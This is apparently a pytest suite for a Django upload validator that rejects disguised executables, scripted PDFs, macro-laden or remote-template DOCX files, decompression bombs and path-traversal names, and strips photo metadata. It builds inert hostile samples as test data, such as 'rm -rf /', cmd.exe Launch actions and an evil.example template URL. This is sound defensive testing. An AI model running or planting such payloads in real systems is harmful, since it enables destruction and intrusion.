"""Every file here is made by the tests, byte by byte or with Pillow, WeasyPrint and zipfile."""

import hashlib
import io
import socket
import struct
import threading
import zipfile
import zlib

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import ExifTags, Image, PngImagePlugin

from congso.core import uploads
from congso.core.pdf import html_to_pdf
from congso.core.uploads import UploadValidator, clamd_instream, clean_upload, safe_name, validate_upload

# --- making files -----------------------------------------------------------------------------------------


def build_pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A classic PDF (cross-reference table) whose object n is ``objects[n - 1]``; object 1 is the root."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), dictionary, data)


def make_pdf(*, pages: int = 1, catalog: bytes = b"", extra: tuple[bytes, ...] = (), text: bool = True,
             trailer: bytes = b"") -> bytes:  # fmt: skip
    """Objects: 1 catalog, 2 page tree, 3 font, then ``extra`` (4, 5, …), then pages and their contents."""
    first_page = 4 + len(extra)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Count %d /Kids [%s] >>"
        % (pages, b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(pages))),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *extra,
    ]
    for i in range(pages):
        contents = b"/Contents %d 0 R" % (first_page + 2 * i + 1) if text else b""
        resources = b"/Resources << /Font << /F1 3 0 R >> >>"
        page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s %s >>" % (resources, contents)
        objects.append(page)
        objects.append(stream(b"BT /F1 24 Tf 72 720 Td (Trang %d) Tj ET" % (i + 1)))
    return build_pdf(objects, trailer=trailer)


def make_pdf_with_object_stream(
    catalog_extra: bytes, *, extra: tuple[bytes, ...] = (), hex_: bool = False
) -> bytes:
    """PDF 1.5: catalog (1), page tree (2), page (3) and ``extra`` (4, …) live in a Flate-compressed (or
    hex-encoded) object stream, found through an xref stream: what a byte search of the file cannot read."""
    inner = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        *extra,
    ]
    header, body = b"", b""
    for number, obj in enumerate(inner, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    if hex_:
        packed, packing = (header + body).hex().encode() + b">", b"/ASCIIHexDecode"
    else:
        packed, packing = zlib.compress(header + body), b"/FlateDecode"
    objstm, xref = len(inner) + 1, len(inner) + 2
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_offset = len(out)
    dictionary = b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(inner), len(header), packing)
    out += b"%d 0 obj\n%s\nendobj\n" % (objstm, stream(packed, dictionary))
    xref_offset = len(out)
    rows = [
        (0, 0, 255),
        *((2, objstm, i) for i in range(len(inner))),
        (1, objstm_offset, 0),
        (1, xref_offset, 0),
    ]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    out += b"%d 0 obj\n%s\nendobj\n" % (
        xref,
        stream(table, b"/Type /XRef /Size %d /W [1 2 1] /Root 1 0 R" % (xref + 1)),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def rc4(key: bytes, data: bytes) -> bytes:
    box, j = list(range(256)), 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


def make_encrypted_pdf(*, user_password: bytes) -> bytes:
    """The standard security handler, revision 2 (40-bit RC4), as the PDF 1.7 reference describes it
    (algorithms 3.2–3.4). With an empty user password anyone can open it; the owner password only guards
    printing and copying. The page has no content, so nothing else needs encrypting."""
    file_id = hashlib.md5(b"congso").digest()  # noqa: S324 — the format requires MD5
    permissions = -44
    owner = rc4(hashlib.md5((b"owner" + _PAD)[:32]).digest()[:5], (user_password + _PAD)[:32])  # noqa: S324
    key = hashlib.md5(  # noqa: S324
        (user_password + _PAD)[:32] + owner + struct.pack("<i", permissions) + file_id
    ).digest()[:5]
    encrypt = b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>" % (
        owner.hex().encode(),
        rc4(key, _PAD).hex().encode(),
        permissions,
    )
    return make_pdf(text=False, extra=(encrypt,), trailer=b"/Encrypt 4 0 R /ID [<%s> <%s>]" % (
        file_id.hex().encode(), file_id.hex().encode()))  # fmt: skip


def make_jpeg_with_gps() -> bytes:
    """A phone photo held sideways: 40×20 stored, EXIF orientation 6 (turn 90° clockwise), GPS position,
    camera, a JPEG comment and XMP."""
    image = Image.new("RGB", (40, 20), (255, 0, 0))
    image.paste((0, 0, 255), (20, 0, 40, 20))  # left half red, right half blue
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (8.0, 36.0, 22.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (104.0, 43.0, 30.0),
    }
    out = io.BytesIO()
    image.save(out, "JPEG", quality=95, exif=exif, comment=b"CCCD 096012345678", xmp=b"<x:xmpmeta/>")
    return out.getvalue()


def make_png_with_text() -> bytes:
    image = Image.new("RGBA", (30, 10), (0, 128, 0, 128))
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "Nguyen Van A")  # Latin-1 text: tEXt and zTXt; other text goes to iTXt
    info.add_text("Comment", "ap Dat Mui, xa Dat Mui", zip=True)
    info.add_itxt("Description", "CCCD 096012345678", lang="vi")
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Scanner"
    out = io.BytesIO()
    image.save(out, "PNG", pnginfo=info, exif=exif, dpi=(300, 300))
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_blank_png(width: int, height: int) -> bytes:
    """A real 1-bit PNG, compressed row by row: a few kilobytes on disk for hundreds of megapixels."""
    packer = zlib.compressobj(9)
    rows = (b"\0" * (1 + (width + 7) // 8)) * 1000
    idat = b"".join(packer.compress(rows[: len(rows) // 1000 * min(1000, height - done)])
                    for done in range(0, height, 1000)) + packer.flush()  # fmt: skip
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    chunks = png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + chunks


def png_chunks(data: bytes) -> list[bytes]:
    kinds, position = [], 8
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        kinds.append(data[position + 4 : position + 8])
        position += 12 + length
    return kinds


def jpeg_segments(data: bytes) -> list[tuple[int, bytes]]:
    """(marker, first bytes of the segment) up to the start of the image data."""
    segments, position = [], 2
    while data[position] == 0xFF:
        marker = data[position + 1]
        (length,) = struct.unpack(">H", data[position + 2 : position + 4])
        segments.append((marker, data[position + 4 : position + 4 + min(length - 2, 12)]))
        if marker == 0xDA:  # start of scan
            break
        position += 2 + length
    return segments


WORD_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_PROJECT = "application/vnd.ms-office.vbaProject"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>'
)
REMOTE_TEMPLATE_RELS = (
    "<?xml version='1.0' encoding='UTF-8'?>"
    "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
    "<Relationship Id='rId1' TargetMode='External' Target='http://evil.example/t.dotm' "
    "Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/>"
    "</Relationships>"
)


def make_docx(*, main: str = DOCX_MAIN, more_types: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", WORD_CONTENT_TYPES.format(main=main, more=more_types))
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr(
            "word/document.xml",
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p></w:body></w:document>",
        )
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return out.getvalue()


def make_xlsx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        content_types = WORD_CONTENT_TYPES.replace("/word/document.xml", "/xl/workbook.xml")
        archive.writestr("[Content_Types].xml", content_types.format(main=XLSX_MAIN, more=""))
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return out.getvalue()


def refusal(data, **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        validate_upload(SimpleUploadedFile("giay-to.pdf", data, "application/pdf"), **options)
    return caught.value


# --- type, size -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"MZ\x90\x00\x03\x00" + b"\0" * 200 + b"This program cannot be run", id="exe"),
        pytest.param(b"\x7fELF\x02\x01\x01\x00" + b"\0" * 200, id="elf"),
        pytest.param(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", id="svg"),
        pytest.param(b"#!/bin/sh\nrm -rf /\n", id="script"),
        pytest.param(b"\0\0\0%PDF-1.7 junk in front of the header", id="pdf-not-at-start"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, id="old-office"),
    ],
)
def test_content_decides_the_type_not_the_name_or_browser(data):
    error = refusal(data)
    assert error.code == "file_type"
    assert error.messages == [
        "Nội dung tệp không thuộc loại được chấp nhận. Chỉ nhận: JPEG, PDF, PNG. "
        "Đổi tên tệp không làm thay đổi loại tệp."
    ]


def test_a_type_outside_allowed_is_refused_even_when_valid():
    assert refusal(make_pdf(), allowed=("jpeg", "png")).code == "file_type"
    assert (
        refusal(make_blank_png(8, 8), allowed=("pdf",))
        .messages[0]
        .startswith("Nội dung tệp không thuộc loại được chấp nhận. Chỉ nhận: PDF.")
    )


def test_unknown_kinds_are_a_programming_error():
    with pytest.raises(ValueError, match="gif"):
        UploadValidator(allowed=("pdf", "gif"))


def test_empty_file_is_refused():
    assert refusal(b"").code == "empty"


def test_oversized_file_is_refused_in_vietnamese():
    with translation.override("vi"):
        error = refusal(b"%PDF-1.7\n" + b"\0" * (10 * 1024 * 1024))
    assert error.code == "too_large"
    assert error.messages == ["Tệp quá lớn: tối đa 10 MB."]


def test_size_cap_reads_no_more_than_it_needs():
    class Endless(io.RawIOBase):
        """A file that never ends: a check that read it all would never finish."""

        asked = 0

        def readable(self):
            return True

        def read(self, size=-1):
            assert size >= 0, "read everything"
            self.asked += size
            return b"%PDF-" + b"\0" * (size - 5)

    endless = Endless()
    assert refusal_of(endless, max_bytes=1000).code == "too_large"
    assert endless.asked == 1001


def refusal_of(file, **options) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        validate_upload(file, **options)
    return caught.value


def test_a_file_exactly_at_the_cap_passes():
    pdf = make_pdf()
    assert validate_upload(pdf, max_bytes=len(pdf)).size == len(pdf)
    assert refusal(pdf, max_bytes=len(pdf) - 1).code == "too_large"


# --- images -----------------------------------------------------------------------------------------------


def test_jpeg_loses_exif_gps_comment_and_xmp_and_is_turned_upright():
    original = make_jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test has teeth
    checked = validate_upload(SimpleUploadedFile("ảnh CCCD.png", original, "image/png"))

    assert (checked.kind, checked.content_type, checked.name) == ("jpeg", "image/jpeg", "anh-cccd.jpg")
    markers = [marker for marker, _ in jpeg_segments(checked.content)]
    assert 0xE1 not in markers  # APP1: EXIF and XMP
    assert 0xFE not in markers  # COM
    assert b"PhoneMaker" not in checked.content and b"096012345678" not in checked.content
    cleaned = Image.open(io.BytesIO(checked.content))
    assert cleaned.format == "JPEG"
    assert dict(cleaned.getexif()) == {}
    assert "exif" not in cleaned.info and "xmp" not in cleaned.info and "comment" not in cleaned.info
    # Orientation 6 applied: 40×20 became 20×40, the red left half is now on top.
    assert cleaned.size == (20, 40)
    red, _green, blue = cleaned.convert("RGB").getpixel((10, 5))
    assert red > 200 and blue < 60


def test_png_loses_text_chunks_and_exif_but_keeps_transparency_and_resolution():
    original = make_png_with_text()
    assert {b"tEXt", b"zTXt", b"iTXt", b"eXIf"} <= set(png_chunks(original))
    checked = validate_upload(original)

    chunks = png_chunks(checked.content)
    assert not {b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"tIME"} & set(chunks)
    assert b"Nguy" not in checked.content
    cleaned = Image.open(io.BytesIO(checked.content))
    assert cleaned.mode == "RGBA" and cleaned.getpixel((0, 0)) == (0, 128, 0, 128)
    assert cleaned.info["dpi"] == pytest.approx((300, 300), abs=0.1)
    assert (checked.kind, checked.name) == ("png", "tai-lieu.png")  # bytes have no name


def test_size_and_sha256_describe_the_stored_bytes():
    original = make_jpeg_with_gps()
    checked = validate_upload(original)
    assert checked.size == len(checked.content) != len(original)
    assert checked.sha256 == hashlib.sha256(checked.content).hexdigest()
    assert checked.pages is None


def test_decompression_bomb_is_refused_before_decoding():
    bomb = make_blank_png(20_000, 20_000)  # 400 megapixels, 50 MB of pixels when decoded
    assert len(bomb) < 100_000
    with translation.override("en"):
        error = refusal(bomb)
    assert error.code == "too_many_pixels"
    assert error.messages == ["The image is too large: at most 40 megapixels. Please lower its resolution."]


def test_our_pixel_cap_is_below_pillows():
    assert refusal(make_blank_png(8000, 6000)).code == "too_many_pixels"  # 48 MP: Pillow would decode it
    assert refusal(make_blank_png(8, 8), max_pixels=63).code == "too_many_pixels"
    assert validate_upload(make_blank_png(8, 8), max_pixels=64).kind == "png"


@pytest.mark.parametrize("kind", ["jpeg", "png"])
def test_damaged_images_are_refused(kind):
    image = make_jpeg_with_gps() if kind == "jpeg" else make_png_with_text()
    truncated = image[: len(image) * 2 // 3]
    assert refusal(truncated).code == "corrupt"


def test_png_with_a_bad_checksum_is_refused():
    png = bytearray(make_blank_png(16, 16))
    png[29] ^= 0xFF  # inside IHDR's CRC
    assert refusal(bytes(png)).code == "corrupt"


# --- PDF --------------------------------------------------------------------------------------------------


def test_plain_pdf_is_kept_as_it_is_with_its_page_count():
    pdf = make_pdf(pages=3)
    checked = validate_upload(SimpleUploadedFile("Giấy khai sinh (bản sao).PDF", pdf, "text/plain"))
    assert checked.content == pdf
    assert (checked.kind, checked.pages, checked.name) == ("pdf", 3, "giay-khai-sinh-ban-sao.pdf")
    assert (checked.size, checked.sha256) == (len(pdf), hashlib.sha256(pdf).hexdigest())


def test_pdf_made_by_congso_passes():
    html = "<!doctype html><h1>Giấy tiếp nhận hồ sơ</h1><p style='break-before: page'>Trang 2</p>"
    pdf = html_to_pdf(html)
    assert validate_upload(pdf).pages == 2


def test_too_many_pages():
    error = refusal(make_pdf(pages=3), max_pages=2)
    assert error.code == "too_many_pages"
    assert error.messages == ["Tệp PDF có quá nhiều trang: tối đa 2 trang."]


@pytest.mark.parametrize(
    ("catalog", "extra"),
    [
        pytest.param(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", (), id="open-action-js"),
        pytest.param(b"/OpenAction 4 0 R", (b"<< /S /JavaScript /JS 5 0 R >>",), id="indirect-js"),
        pytest.param(b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", (), id="hex-escaped-names"),
        pytest.param(b"/AA << /WC << /JS (x) >> >>", (), id="js-without-subtype"),
        pytest.param(b"/OpenAction << /S /Launch /F (cmd.exe) >>", (), id="launch"),
        pytest.param(
            b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
            (b"<< /S /JavaScript /JS (app.alert(1)) >>",),
            id="document-js",
        ),
        pytest.param(
            b"/Names << /EmbeddedFiles << /Names [(payload.exe) 4 0 R] >> >>",
            (b"<< /Type /Filespec /F (payload.exe) /EF << /F 5 0 R >> >>", stream(b"MZ", b"")),
            id="embedded-file",
        ),
    ],
)
def test_pdf_with_scripts_or_attachments_is_refused(catalog, extra):
    error = refusal(make_pdf(catalog=catalog, extra=extra))
    assert error.code == "active_content"


def test_pdf_scripts_hidden_in_a_compressed_object_stream_are_found():
    assert validate_upload(make_pdf_with_object_stream(b"")).pages == 1
    hidden = make_pdf_with_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    assert b"JavaScript" not in hidden
    assert refusal(hidden).code == "active_content"


def test_pdfium_finds_document_scripts_the_byte_search_cannot_read():
    """Hex-encoded object streams are beyond the heuristic; PDFium's count of document scripts is not."""
    hidden = make_pdf_with_object_stream(
        b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
        extra=(b"<< /S /JavaScript /JS (app.alert(1)) >>",),
        hex_=True,
    )
    assert not uploads._has_active_content(hidden)
    assert refusal(hidden).code == "active_content"


def test_pdf_text_that_happens_to_read_js_is_not_a_script():
    """Three bytes occur by chance in image data; only dictionaries count."""
    pdf = make_pdf(extra=(stream(b"BT /F1 12 Tf 72 700 Td (/JS) Tj ET"),))
    assert validate_upload(pdf).pages == 1


def test_password_protected_pdf_is_refused():
    error = refusal(make_encrypted_pdf(user_password=b"mat-khau"))
    assert error.code == "encrypted"


def test_pdf_encrypted_with_only_an_owner_password_is_refused_too():
    pdf = make_encrypted_pdf(user_password=b"")
    assert refusal(pdf).code == "encrypted"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\nthis is not a PDF at all", id="garbage"),
        pytest.param(make_pdf(pages=2)[:200], id="truncated"),
    ],
)
def test_damaged_pdf_is_refused(data):
    assert refusal(data).code == "corrupt"


# --- Office -----------------------------------------------------------------------------------------------

OFFICE = ("pdf", "docx", "xlsx")


def test_docx_and_xlsx_pass_only_when_allowed():
    docx, xlsx = make_docx(), make_xlsx()
    checked = validate_upload(SimpleUploadedFile("Đơn.pdf", docx), allowed=OFFICE)
    assert (checked.kind, checked.name, checked.content) == ("docx", "don.docx", docx)
    assert validate_upload(xlsx, allowed=OFFICE).name == "tai-lieu.xlsx"
    assert refusal(docx).code == "file_type"  # the default allows no Office files
    assert refusal(xlsx, allowed=("docx",)).code == "file_type"


@pytest.mark.parametrize(
    "docx",
    [
        pytest.param(make_docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), id="vbaProject.bin"),
        pytest.param(make_docx(main=DOCM_MAIN), id="docm-content-type"),
        pytest.param(
            make_docx(more_types=f'<Default Extension="bin" ContentType="{VBA_PROJECT}"/>'),
            id="vba-content-type",
        ),
        pytest.param(make_docx(parts={"word/activeX/activeX1.bin": b"\0"}), id="activex"),
        pytest.param(make_docx(parts={"word/embeddings/oleObject1.bin": b"\0"}), id="ole-object"),
        pytest.param(
            make_docx(parts={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE_RELS}), id="remote-template"
        ),
    ],
)
def test_office_files_with_macros_or_active_content_are_refused(docx):
    assert refusal(docx, allowed=OFFICE).code == "macro"


def test_other_zips_are_not_office_files():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("virus.exe", b"MZ")
    assert refusal(out.getvalue(), allowed=OFFICE).code == "file_type"
    assert refusal(b"PK\x03\x04 broken", allowed=OFFICE).code == "corrupt"


# --- forms and the dossier service ------------------------------------------------------------------------


class ScanForm(forms.Form):
    scan = forms.FileField(validators=[UploadValidator(allowed=("pdf", "jpeg"))])


def test_validator_refuses_in_a_form():
    upload = SimpleUploadedFile("giay-khai-sinh.pdf", b"MZ\x90\x00 pretending", "application/pdf")
    form = ScanForm(data={}, files={"scan": upload})
    assert not form.is_valid()
    [error] = form.errors.as_data()["scan"]
    assert error.code == "file_type"
    assert "Chỉ nhận: JPEG, PDF." in error.messages[0]


def test_form_then_service_stores_the_cleaned_bytes():
    upload = SimpleUploadedFile("Ảnh.jpg", make_jpeg_with_gps(), "image/jpeg")
    form = ScanForm(data={}, files={"scan": upload})
    assert form.is_valid(), form.errors
    content_file, checked = clean_upload(form.cleaned_data["scan"], allowed=("pdf", "jpeg"))
    assert content_file.name == "anh.jpg"
    assert content_file.read() == checked.content
    assert 0xE1 not in [marker for marker, _ in jpeg_segments(checked.content)]


def test_validator_is_deconstructible_and_comparable():
    validator = UploadValidator(allowed=("png", "pdf"), max_bytes=1024)
    path, args, kwargs = validator.deconstruct()
    assert path == "congso.core.uploads.UploadValidator"
    assert UploadValidator(*args, **kwargs) == validator != UploadValidator(allowed=("pdf",), max_bytes=1024)


@pytest.mark.parametrize(
    ("original", "kind", "name"),
    [
        ("C:\\fakepath\\Giấy khai sinh.PDF.exe", "pdf", "giay-khai-sinh-pdf.pdf"),
        ("../../etc/passwd", "png", "passwd.png"),
        ("Đơn đề nghị cấp đổi", "docx", "don-de-nghi-cap-doi.docx"),
        (".jpg", "jpeg", "tai-lieu.jpg"),
        ("", "pdf", "tai-lieu.pdf"),
    ],
)
def test_safe_name(original, kind, name):
    assert safe_name(original, kind) == name


# --- antivirus --------------------------------------------------------------------------------------------


class FakeClamd:
    """Speaks clamd's side of INSTREAM on a UNIX socket and records what it received."""

    def __init__(self, path, reply: bytes):
        self.reply = reply
        self.received: list[tuple[bytes, list[bytes]]] = []
        self.listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.listener.bind(str(path))
        self.listener.listen()
        self.listener.settimeout(0.1)
        self.stopped = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stopped.is_set():
            try:
                connection, _ = self.listener.accept()
            except TimeoutError:
                continue
            with connection, connection.makefile("rb") as incoming:
                command = b""
                while not command.endswith(b"\0"):
                    command += incoming.read(1)
                chunks = []
                while length := struct.unpack("!L", incoming.read(4))[0]:
                    chunks.append(incoming.read(length))
                self.received.append((command, chunks))
                connection.sendall(self.reply + b"\0")

    def stop(self):
        self.stopped.set()
        self.thread.join()
        self.listener.close()


@pytest.fixture
def clamd(tmp_path, settings):
    servers = []

    def start(reply: bytes) -> FakeClamd:
        server = FakeClamd(tmp_path / "clamd.sock", reply)
        settings.CONGSO_CLAMD_SOCKET = str(tmp_path / "clamd.sock")
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.stop()


def test_clean_file_passes_the_scan_sent_in_chunks(clamd, monkeypatch):
    monkeypatch.setattr(uploads, "CLAMD_CHUNK", 100)
    server = clamd(b"stream: OK")
    pdf = make_pdf(pages=2)
    assert validate_upload(pdf).pages == 2
    [(command, chunks)] = server.received
    assert command == b"zINSTREAM\0"
    assert b"".join(chunks) == pdf
    assert len(chunks) == -(-len(pdf) // 100)


def test_infected_file_is_refused(clamd):
    clamd(b"stream: Eicar-Test-Signature FOUND")
    error = refusal(make_pdf())
    assert error.code == "virus"
    assert error.messages == ["Tệp chứa vi-rút hoặc mã độc."]


def test_scan_happens_once_for_form_and_service(clamd):
    server = clamd(b"stream: OK")
    form = ScanForm(data={}, files={"scan": SimpleUploadedFile("a.pdf", make_pdf(), "application/pdf")})
    assert form.is_valid(), form.errors
    clean_upload(form.cleaned_data["scan"], allowed=("pdf", "jpeg"))
    assert len(server.received) == 1
    clean_upload(form.cleaned_data["scan"])  # other options: checked again
    assert len(server.received) == 2


@pytest.mark.parametrize("reply", [b"INSTREAM size limit exceeded. ERROR", b""])
def test_a_scan_that_fails_refuses_the_file(clamd, reply):
    clamd(reply)
    assert refusal(make_pdf()).code == "virus_scan_unavailable"


def test_unreachable_clamd_refuses_the_file(settings, tmp_path):
    settings.CONGSO_CLAMD_SOCKET = str(tmp_path / "nobody-listens.sock")
    assert refusal(make_pdf()).code == "virus_scan_unavailable"


def test_clamd_instream_returns_the_signature(clamd, settings):
    clamd(b"stream: Win.Trojan.Agent-123 FOUND")
    assert clamd_instream(b"MZ", socket_path=settings.CONGSO_CLAMD_SOCKET) == "Win.Trojan.Agent-123"


def test_without_clamd_configured_nothing_is_scanned(settings, monkeypatch):
    assert getattr(settings, "CONGSO_CLAMD_SOCKET", None) is None
    monkeypatch.setattr(uploads, "clamd_instream", lambda *args, **kwargs: pytest.fail("scanned"))
    assert validate_upload(make_pdf()).kind == "pdf"
